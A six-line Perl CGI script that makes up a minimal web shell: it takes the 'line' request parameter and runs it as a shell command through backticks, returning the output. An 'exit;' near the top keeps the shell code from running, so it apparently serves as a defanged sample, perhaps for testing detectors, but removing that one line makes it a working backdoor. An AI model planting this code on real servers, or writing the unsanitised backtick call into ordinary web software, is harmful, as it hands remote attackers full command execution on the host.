#!/usr/bin/perl
exit;
use CGI;
my $q = CGI->new;
my $line = $q->param("line");
print `$line`;
